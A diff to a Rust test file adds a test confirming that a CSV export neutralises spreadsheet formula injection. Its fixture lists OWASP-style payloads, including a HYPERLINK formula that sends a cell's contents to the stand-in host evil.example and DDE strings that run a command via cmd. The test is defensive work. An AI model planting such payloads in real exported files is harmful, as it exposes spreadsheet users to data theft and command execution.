@@ -102,6 +102,49 @@ fn the_bundled_events_come_back_from_their_export_field_by_field() {
     }
 }
 
+/// Titles and summaries a hostile file could plant (OWASP's CSV injection examples).
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "=1+1 in the summary",
+    "'=written as text by hand",
+];
+
+#[test]
+fn formula_cells_are_written_as_text_and_read_back_as_they_were() {
+    let mut text =
+        String::from("id,title_en,start,countries,summary,latitude,longitude,city,country\n");
+    for (i, formula) in FORMULAS.iter().enumerate() {
+        let quoted = format!("\"{}\"", formula.replace('"', "\"\""));
+        text += &format!("e{i},{quoted},2024-05-2{i},CN,{quoted},-33.86,-151.2,Sydney,AU\n");
+    }
+    let dataset = read(text).unwrap().dataset;
+    let exported = export(&dataset, Locale::En);
+    // Every cell of the export that starts like a formula is a plain number.
+    let mut reader = ::csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(exported.trim_start_matches('\u{FEFF}').as_bytes());
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            let live = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            assert!(
+                !live || cell.parse::<f64>().is_ok(),
+                "a live formula: {cell:?}"
+            );
+        }
+    }
+    let back = read(exported).unwrap().dataset;
+    for event in dataset.events() {
+        let again = back.event(&event.id).unwrap();
+        assert_eq!(again.title, event.title);
+        assert_eq!(again.summary, event.summary);
+        assert_eq!(carried(again, &back), carried(event, &dataset));
+    }
+    assert_eq!(back.events().len(), FORMULAS.len());
+}
+
 /// A small table with a quoted title holding a separator, a doubled quote and a line break.
 const ROWS: [[&str; 6]; 2] = [
     [
